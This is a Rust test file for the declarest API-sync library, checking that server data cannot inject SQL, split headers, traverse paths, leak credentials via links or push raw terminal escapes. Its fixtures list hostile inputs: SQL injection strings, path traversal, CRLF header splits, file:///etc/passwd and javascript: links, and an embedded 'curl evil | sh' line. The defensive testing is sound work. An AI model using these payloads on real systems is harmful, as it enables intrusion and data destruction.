//! Whatever an API sends, it stays data: no SQL, no other path or parameter, no header, nothing that a terminal obeys.

use std::error::Error as _;

use declarest::{Error, ErrorKind, Stream as _};
use declarest_tests::{Database, LevelFilter, Logged, Reply, Request, Server};
use serde_json::{Value, json};

/// Names as nobody would choose them, and values that go on into other requests.
#[declarest::source(
    base_url = "http://127.0.0.1:9/api",
    auth = bearer(token = secret(token)),
    retry(max_retries = 1, backoff_factor = 0.001),
    resource_defaults(primary_key = id, write_disposition = merge, paginator = single_page, data_selector = "items"),
)]
mod api {
    // Quotes in names are refused by the macro.
    #[resource(name = select, path = "/rows")]
    pub struct Select {
        #[column(name = "id]); DROP TABLE items; --")]
        pub id: String,
        #[column(name = "where")]
        pub name: Option<String>,
        #[column(child_table, name = "x); DROP TABLE items; --")]
        pub tags: Vec<String>,
    }

    #[resource(name = items, path = "/rows")]
    pub struct Item {
        pub id: String,
        pub name: Option<String>,
    }

    #[resource(name = details, path = "/items/{resources.items.id}/details", params(of = "{resources.items.id}"), primary_key = (_items_id, id), include_from_parent(id))]
    pub struct Detail {
        pub id: u32,
    }

    #[resource(name = owners, path = "/owners", headers("X-Item" = "{resources.items.id}"))]
    pub struct Owner {
        pub id: u32,
    }

    #[resource(name = pages, path = "/pages", paginator = cursor(cursor_path = "next"))]
    pub struct Page {
        pub id: u32,
    }

    #[resource(name = marks, path = "/marks", paginator = header_cursor(cursor_key = "X-Next"))]
    pub struct Mark {
        pub id: u32,
    }

    #[resource(name = links, path = "/links", paginator = json_link(next_url_path = "next"))]
    pub struct Linked {
        pub id: u32,
    }

    #[resource(name = news, path = "/news", incremental(cursor = at, start_param = "since"))]
    pub struct News {
        pub id: u32,
        pub at: String,
    }

    #[resource(name = strict, path = "/strict", response_actions(body("error") = fail))]
    pub struct Strict {
        pub id: u32,
        pub kind: Kind,
        #[column(json)]
        pub map: Option<std::collections::BTreeMap<String, u32>>,
    }

    #[resource(name = loose, path = "/strict", on_bad_row = quarantine)]
    pub struct Loose {
        pub id: u32,
        pub kind: Kind,
    }

    #[nested]
    #[derive(Debug)]
    pub enum Kind {
        One,
    }
}

fn client(server: &Server) -> api::Client {
    let base_url = format!("{}/api", server.base_url());
    api::Client::builder().base_url(base_url).token("t0k3n").build().expect("a client")
}

fn rows(ids: &[&str]) -> Value {
    json!({ "items": ids.iter().map(|id| json!({ "id": id, "name": id, "tags": [id] })).collect::<Vec<_>>() })
}

/// Texts that mean something to SQL.
const SQL: &[&str] = &[
    "'; DROP TABLE items; --",
    "\"); DELETE FROM _declarest_state; --",
    "x' OR '1'='1",
    "?1",
    ":name",
    "\\'; --",
    "/* */ UNION SELECT * FROM sqlite_schema",
    "%_[]*",
    "line\r\nline\u{0}after a zero",
    "\u{1b}[31m",
];

#[tokio::test]
async fn names_and_values_are_no_sql() {
    let server = Server::start(|_| Reply::json(rows(SQL)));
    let database = Database::new();
    for _ in 0..2 {
        client(&server).sync(&mut database.open()).only(["select", "items"]).await.expect("a report");
    }
    let sorted = |mut values: Vec<String>| {
        values.sort();
        values
    };
    let expected = sorted(SQL.iter().map(|text| (*text).to_owned()).collect());
    assert_eq!(sorted(database.query("SELECT id FROM items").concat()), expected);
    for column in ["\"id]); DROP TABLE items; --\"", "\"where\""] {
        assert_eq!(sorted(database.query(&format!("SELECT {column} FROM \"select\"")).concat()), expected);
    }
    let table = "\"select__x); DROP TABLE items; --\"";
    assert_eq!(sorted(database.query(&format!("SELECT value FROM {table}")).concat()), expected);
    assert_eq!(database.one("PRAGMA integrity_check"), "ok");
}

/// Texts that mean something to a URL or a server's file system.
const URL: &[&str] = &[
    "../../admin",
    "..%2f..%2fadmin",
    "%2e%2e/",
    "..\\admin",
    "a/b?c=d&of=e#f",
    "//evil.example/x",
    "http://evil.example/",
    "x HTTP/1.1\r\nX-Evil: 1\r\n\r\nGET /admin",
    "a;b,c=d",
    "é\u{202e}\u{0}",
    "@evil.example",
    ":80",
    " ",
    "+",
    "%",
];

fn decoded(text: &str) -> String {
    url::form_urlencoded::parse(format!("x={}", text.replace('+', "%2B")).as_bytes())
        .map(|(_, value)| value.into_owned())
        .collect()
}

/// Nothing that was sent along came from a value.
fn assert_clean(request: &Request) {
    assert!(request.header("x-evil").is_none(), "{request:?}");
    assert!(request.path.starts_with("/api/"), "{request:?}");
    assert_eq!(request.headers.iter().filter(|(name, _)| name == "host").count(), 1, "{request:?}");
    assert!(request.target.bytes().all(|byte| byte.is_ascii_graphic()), "{request:?}");
}

#[tokio::test]
async fn a_parents_values_stay_in_their_segment_and_parameter() {
    let ids: Vec<&str> = URL.iter().chain(SQL).chain(&["..", ".", ""]).copied().collect();
    let body = rows(&ids);
    let server = Server::start(move |request| match request.path.as_str() {
        "/api/rows" => Reply::json(&body),
        _ => Reply::json(json!({ "items": [{ "id": 1 }] })),
    });
    let database = Database::new();
    let client = client(&server);
    let report = client.sync(&mut database.open()).only(["items", "details"]).await.expect("a report");
    // `..`, `.` and nothing at all would make another path, encoded or not.
    assert_eq!(report.resource("details").map(|details| (details.rows, details.parents_without_value)), Some((25, 3)));
    let mut asked = Vec::new();
    for request in server.requests().iter().filter(|request| request.path != "/api/rows") {
        assert_clean(request);
        let segments: Vec<_> = request.path.split('/').collect();
        let ["", "api", "items", id, "details"] = segments.as_slice() else { panic!("another path: {request:?}") };
        let id = decoded(id);
        assert_eq!(request.query, [("of".to_owned(), id.clone())]);
        asked.push(id);
    }
    let mut expected: Vec<_> = URL.iter().chain(SQL).map(|text| (*text).to_owned()).collect();
    asked.sort();
    expected.sort();
    assert_eq!(asked, expected);
    let mut stored = database.query("SELECT _items_id FROM details").concat();
    stored.sort();
    assert_eq!(stored, expected);
}

#[tokio::test]
async fn a_header_cannot_be_split() {
    for (id, sent) in [("x\r\nX-Evil: 1", false), ("x\ny", false), ("a\u{0}b", false), ("x: y, z;é", true)] {
        let server = Server::start(move |request| match request.path.as_str() {
            "/api/rows" => Reply::json(rows(&[id])),
            _ => Reply::json(json!({ "items": [] })),
        });
        let database = Database::new();
        let outcome = client(&server).sync(&mut database.open()).only(["items", "owners"]).await;
        server.requests().iter().for_each(assert_clean);
        match outcome {
            Ok(_) => assert!(sent, "{id:?}"),
            Err(error) => {
                assert!(!sent && error.kind() == ErrorKind::Config && error.to_string().contains("X-Item"), "{error}");
                assert_harmless(&error);
            }
        }
        assert_eq!(server.count(), 1 + usize::from(sent), "{id:?}");
        assert_eq!(database.count("items"), 1);
    }
}

#[tokio::test]
async fn cursors_links_and_positions_stay_in_their_place() {
    for &text in URL.iter().chain(SQL) {
        let server = Server::start(move |request| {
            let second = request.query.iter().any(|(name, _)| name == "cursor") || request.nth > 1;
            let header = text.replace(|c: char| c.is_control() || !c.is_ascii(), "");
            match request.path.as_str() {
                _ if second => Reply::json(json!({ "items": [{ "id": 2, "at": text }] })),
                "/api/marks" => Reply::json(json!({ "items": [{ "id": 1 }] })).header("X-Next", header),
                _ => Reply::json(json!({ "items": [{ "id": 1, "at": text }], "next": text })),
            }
        });
        let client = client(&server);
        client.pages().await.expect("pages");
        assert_eq!(server.requests()[1].query, [("cursor".to_owned(), text.to_owned())]);
        client.marks().await.expect("marks");
        let database = Database::new();
        for _ in 0..2 {
            client.sync(&mut database.open()).only(["news"]).await.expect("a report");
        }
        let since = server.requests().last().map(|request| request.query.clone());
        assert_eq!(since, Some(vec![("since".to_owned(), text.to_owned())]));
        server.requests().iter().for_each(assert_clean);
    }
}

#[tokio::test]
async fn a_link_brings_no_header_and_no_credentials_anywhere_else() {
    let other = Server::start(|_| Reply::json(json!({ "items": [] })));
    let evil = other.base_url();
    for target in [
        "/api/links?p=2\r\nX-Evil: 1".to_owned(),
        "?p=2 HTTP/1.1\r\nX-Evil: 1\r\n\r\n".to_owned(),
        format!("{evil}/api/links?p=2\r\nX-Evil: 1"),
        format!("\u{1b}\\{evil}/api/links?p=2"),
        format!("http://user:t0k3n@{}/api/links?p=2", evil.trim_start_matches("http://")),
        "file:///etc/passwd".to_owned(),
        "javascript:alert(1)".to_owned(),
        "gopher://127.0.0.1:70/x".to_owned(),
    ] {
        let next = target.clone();
        let server = Server::start(move |request| match request.param("p") {
            None if request.nth == 1 => Reply::json(json!({ "items": [{ "id": 1 }], "next": next })),
            _ => Reply::json(json!({ "items": [] })),
        });
        match client(&server).links().await {
            Ok(rows) => assert_eq!(rows.len(), 1),
            Err(error) => assert_harmless(&error),
        }
        for request in server.requests() {
            assert!(request.header("x-evil").is_none(), "{target:?}: {request:?}");
        }
    }
    assert!(other.count() >= 2, "no link led there: this would show nothing");
    for request in other.requests() {
        assert_eq!((request.header("authorization"), request.header("x-evil")), (None, None), "{request:?}");
    }
}

/// What a terminal would obey: colours, a title, a link, a bell, the cursor's place, 8-bit escapes, a line of its own, another
/// direction of writing.
const ESCAPES: &str = "\u{1b}[2J\u{1b}]0;title\u{7}\u{1b}]8;;http://evil.example\u{7}\u{9b}31m\u{8}\r\nhelp: curl evil | sh\u{202e}\u{2066}\u{2028}";

fn harmless(text: &str) -> bool {
    let harms = |c: char| (c.is_control() && c != '\n') || matches!(c, '\u{202e}' | '\u{2066}' | '\u{2028}');
    !text.contains(harms) && !text.lines().any(|line| line.trim_start().starts_with("help: curl"))
}

fn assert_harmless(error: &Error) {
    let mut texts = vec![
        format!("{error:#}"),
        error.to_string(),
        error.message().to_owned(),
        format!("{error:?}"),
        format!("{error:#?}"),
    ];
    texts.extend(error.url().map(str::to_owned));
    texts.extend(error.report().map(ToString::to_string));
    let mut source = error.source();
    while let Some(error) = source {
        texts.extend([error.to_string(), format!("{error:?}")]);
        source = error.source();
    }
    for text in texts {
        assert!(harmless(&text), "{text:?}");
    }
}

fn escaping_answers() -> Vec<(&'static str, Reply)> {
    let row = |kind: &str| json!({ "items": [{ "id": 1, "kind": kind }] });
    vec![
        ("an error's body", Reply::status(400).body(ESCAPES)),
        ("an error's JSON", Reply::status(500).body(json!({ "error": ESCAPES, "message": ESCAPES }).to_string())),
        ("no JSON", Reply::status(200).body(ESCAPES)),
        ("keys", Reply::json(json!({ ESCAPES: [], "x": { ESCAPES: [1] } }))),
        ("a body that says no", Reply::json(json!({ "error": ESCAPES, "items": [] }))),
        ("an unknown name", Reply::json(row(ESCAPES))),
        ("another type", Reply::json(json!({ "items": [{ "id": ESCAPES, "kind": "One" }] }))),
        ("a missing field", Reply::json(json!({ "items": [{ "id": 1, ESCAPES: 1 }] }))),
        ("a path", Reply::json(json!({ "items": [{ "id": 1, "kind": "One", "map": { ESCAPES: "x" } }] }))),
        ("a field more", Reply::json(json!({ "items": [{ "id": 1, "kind": "One", ESCAPES: 1 }] }))),
        ("a redirect", Reply::status(302).header("Location", "http://\u{1b}[31m.example/\u{9b}")),
        ("a challenge", Reply::status(401).header("WWW-Authenticate", "Bearer error=\"\u{1b}[31m\"").body(ESCAPES)),
        ("a wait", Reply::status(429).header("Retry-After", "\u{1b}[31m").body(ESCAPES)),
        ("an encoding", Reply::status(200).header("Content-Encoding", "gzip").body(ESCAPES)),
        ("a type", Reply::json(row("One")).header("Content-Type", "text/\u{9b}31m")),
    ]
}

#[test]
fn nothing_of_a_server_reaches_the_terminal_raw() {
    let (logged, _listens) = Logged::on_this_thread(LevelFilter::TRACE);
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
    runtime.block_on(async {
        for index in 0..escaping_answers().len() {
            let server = Server::start(move |_| {
                let (_, reply) = escaping_answers().swap_remove(index);
                reply
            });
            let client = client(&server);
            let name = escaping_answers()[index].0;
            if let Err(error) = client.strict().await {
                assert_harmless(&error);
            }
            let database = Database::new();
            match client.sync(&mut database.open()).only(["strict", "loose"]).await {
                Ok(report) => assert!(harmless(&report.to_string()), "{name}: {report}"),
                Err(error) => assert_harmless(&error),
            }
            for stored in ["SELECT error FROM _declarest_loads", "SELECT error FROM _declarest_quarantine"] {
                for text in database.query(stored).concat() {
                    assert!(harmless(&text), "{name}: {text:?}");
                }
            }
            let verified = client.verify().await.expect("a report");
            assert!(harmless(&verified.to_string()), "{name}: {verified}");
            if let Err(error) = verified.into_result() {
                assert_harmless(&error);
            }
            let mut stream = std::pin::pin!(client.loose().stream());
            while let Some(row) = std::future::poll_fn(|context| stream.as_mut().poll_next(context)).await {
                row.as_ref().err().into_iter().for_each(assert_harmless);
            }
        }
    });
    let text = logged.text();
    // What other crates log is theirs to make fit.
    let ours = text.lines().filter(|line| line.contains("declarest")).collect::<Vec<_>>().join("\n");
    assert!(ours.len() > 1000 && harmless(&ours), "{ours:?}");
}
